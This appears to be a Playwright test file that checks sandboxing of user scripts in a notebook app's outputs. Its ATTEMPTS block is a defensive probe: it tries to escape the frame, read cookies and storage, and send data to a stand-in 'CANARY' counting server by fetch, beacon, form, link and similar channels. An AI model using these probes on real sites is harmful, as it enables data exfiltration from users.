// Scripts in outputs: they run for a reader only after that reader let them, and can do nothing to the app then either.

import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Locator } from "playwright/test";
import { Person } from "../support/app/Person.ts";
import { test } from "./withHost.ts";

const show = (html: string): string =>
  `({ [Symbol.for("Jupyter.display")]: () => ({ "text/html": ${JSON.stringify(html)} }) })`;
const frame = (person: Person, index: number): Locator => person.outputs(index).frameLocator("iframe").locator("body");

async function allow(person: Person, index: number, whose: RegExp): Promise<void> {
  await person.outputs(index).getByRole("button", { name: "Let them run…" }).click();
  await expect(person.outputs(index)).toContainText("One way out cannot be closed by a web page");
  await person.outputs(index).getByRole("button", { name: whose }).click();
}

test("scripts of an output run for those readers who let them, for that author and notebook", async ({
  browser,
  host,
}) => {
  const [ana, ben] = [
    await Person.arrive(browser, host.ready.url, { name: "Ana", installs: true }),
    await Person.arrive(browser, host.ready.url, { name: "Ben", installs: true }),
  ];
  const url = await ana.createNotebook();
  await ana.write(0, show("<p>still</p><script>document.querySelector('p').textContent = 'moved ' + (1 + 2)</script>"));
  await ana.run(0);
  await expect(frame(ana, 0)).toHaveText("still");
  await allow(ana, 0, /^Allow scripts of Ana/);
  await expect(frame(ana, 0).locator("p")).toHaveText("moved 3");

  // What one reader allows, another has not.
  await ben.visit(url);
  await expect(frame(ben, 0)).toHaveText("still");
  await allow(ben, 0, /^Allow scripts of Ana in this notebook/);
  await expect(frame(ben, 0).locator("p")).toHaveText("moved 3");
  // The same author's next output needs no second word; a reload keeps the first.
  await ana.leaveText();
  await ana.page.keyboard.press("b");
  await ana.write(
    1,
    show(
      "<p>2</p><div style='height: 321px'></div><script>onload = () => document.querySelector('p').textContent = 'also'</script>",
    ),
  );
  await ana.run(1);
  await expect(frame(ben, 1).locator("p")).toHaveText("also");
  await expect.poll(async () => (await ben.outputs(1).locator("iframe").boundingBox())?.height).toBeGreaterThan(321);
  await ben.reload();
  await expect(frame(ben, 0).locator("p")).toHaveText("moved 3");

  // Ben's own are another author's.
  await ben.leaveText();
  await ben.page.keyboard.press("b");
  await ben.outputs(0).getByRole("button", { name: "Stop them" }).click();
  await expect(frame(ben, 0)).toHaveText("still");
  await expect(ana.outputs(0)).toContainText("Scripts of Ana run in it");
  expect([...ana.errors, ...ben.errors]).toEqual([]);
});

/** What a script could try to get out of its frame, or into the app. `CANARY` is a server that counts. */
const ATTEMPTS = `
  const tries = {
    parent: () => parent.document.title,
    top: () => { top.location = "CANARY/top"; },
    storage: () => localStorage.length,
    cookie: () => document.cookie,
    databases: () => indexedDB.open("meshbook"),
    popup: () => { if (open("CANARY/popup") === null) throw new Error("blocked"); },
    fetch: () => fetch("CANARY/fetch"),
    own: () => fetch("/host.json"),
    socket: () => new WebSocket("CANARY/ws".replace("http", "ws")),
    beacon: () => { if (!navigator.sendBeacon("CANARY/beacon")) throw new Error("no"); },
    worker: () => navigator.serviceWorker.register("/sw.js"),
    remote: () => import("CANARY/module.js"),
  };
  new Image().src = "CANARY/image";
  for (const [tag, name] of [["script", "src"], ["iframe", "src"], ["object", "data"], ["embed", "src"], ["video", "src"]]) {
    document.body.append(Object.assign(document.createElement(tag), { [name]: "CANARY/" + tag }));
  }
  for (const rel of ["stylesheet", "prefetch", "preload", "icon", "manifest"]) {
    document.head.append(Object.assign(document.createElement("link"), { rel, href: "CANARY/" + rel, as: "script" }));
  }
  document.body.insertAdjacentHTML("beforeend", '<style>@import "CANARY/css"; p { background: url(CANARY/url) }</style>' +
    '<iframe srcdoc="<script>fetch(\\'CANARY/nested\\')<\\/script>"></iframe>' +
    '<form action="CANARY/form" target="_top"><input name="a"></form>');
  try { document.querySelector("form").submit(); } catch {}
  parent.postMessage({ type: "meshbook-runner-hello" }, "*");
  parent.postMessage({ type: "size", height: 1e9 }, "*");
  const told = await Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
    try { await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no(new Error("silent")), 1500))]); return name; }
    catch { return ""; }
  }));
  document.querySelector("p").textContent = "succeeded: " + told.filter(Boolean).join();
`;

test("scripts that were let run reach nothing outside their frame", async ({ browser, host }) => {
  const reached: string[] = [];
  const canary = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  const address = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`; // reason: of a server that listens on TCP
  try {
    const ana = await Person.arrive(browser, host.ready.url, { name: "Ana", installs: true });
    const url = await ana.createNotebook();
    const script = ATTEMPTS.replaceAll("CANARY", address);
    await ana.write(0, show(`<p>trying</p><script>(async () => { ${script.replaceAll("</", "<\\/")} })()</script>`));
    await ana.run(0);
    await expect(frame(ana, 0)).toContainText("trying");
    await allow(ana, 0, /^Allow scripts of Ana/);
    // Of a socket and a beacon the script does not hear that they were stopped.
    await expect(frame(ana, 0).locator("p")).toHaveText(/^succeeded: (socket)?,?(beacon)?$/);
    expect(reached).toEqual([]);
    expect(ana.page.url()).toBe(url);
    expect(ana.context.pages()).toHaveLength(1);

    // One that leaves for elsewhere is stopped.
    await ana.leaveText();
    await ana.page.keyboard.press("b");
    await ana.write(
      1,
      show(
        `<a ping="${address}/ping" href="${address}/link">going</a><script>document.links[0].click(); location = "${address}/gone?secret"</script>`,
      ),
    );
    await ana.run(1);
    await expect(ana.outputs(1)).toContainText("Scripts of Ana run in it");
    await ana.leaveText();
    await ana.page.keyboard.press("b");
    await ana.write(2, "6 * 7");
    await ana.run(2);
    await expect(ana.outputs(2)).toContainText("42");
    expect(reached).toEqual([]);
  } finally {
    canary.close();
  }
});

test("a script that never ends stalls nothing but its own frame, until it is stopped", async ({ browser, host }) => {
  const ana = await Person.arrive(browser, host.ready.url, { name: "Ana", installs: true });
  await ana.createNotebook();
  await ana.write(0, show("<p>looping</p><script>for (;;);</script>"));
  await ana.run(0);
  await allow(ana, 0, /^Allow scripts of Ana/);
  await expect(ana.outputs(0)).toContainText("Scripts of Ana run in it");
  await ana.page.keyboard.press("b");
  await ana.write(1, "6 * 7");
  await ana.run(1);
  await expect(ana.outputs(1)).toContainText("42");
  await ana.outputs(0).getByRole("button", { name: "Stop them" }).click();
  await expect(frame(ana, 0)).toHaveText("looping");
});
